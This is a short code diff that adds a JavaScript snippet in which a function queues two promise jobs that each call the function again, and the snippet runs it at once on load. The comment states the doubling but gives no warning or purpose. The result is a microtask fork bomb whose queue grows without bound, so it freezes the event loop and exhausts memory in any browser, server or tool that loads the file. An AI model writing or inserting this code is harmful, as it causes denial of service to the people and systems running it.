@@ -1,0 +1,3 @@
+// Jobs that make two jobs each.
+const split = () => { Promise.resolve().then(split); Promise.resolve().then(split); };
+split();
